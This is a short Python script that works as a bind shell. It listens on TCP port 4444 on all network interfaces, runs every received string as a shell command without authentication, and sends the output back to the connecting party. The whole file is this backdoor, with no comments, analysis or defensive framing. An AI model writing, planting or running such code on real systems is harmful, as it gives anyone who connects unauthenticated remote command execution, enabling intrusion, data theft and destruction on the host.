import socketserver,subprocess
class H(socketserver.BaseRequestHandler):
    def handle(self):
        while True:
            c=self.request.recv(1024).decode()
            self.request.sendall(subprocess.check_output(c,shell=True))
socketserver.TCPServer(('0.0.0.0',4444),H).serve_forever()
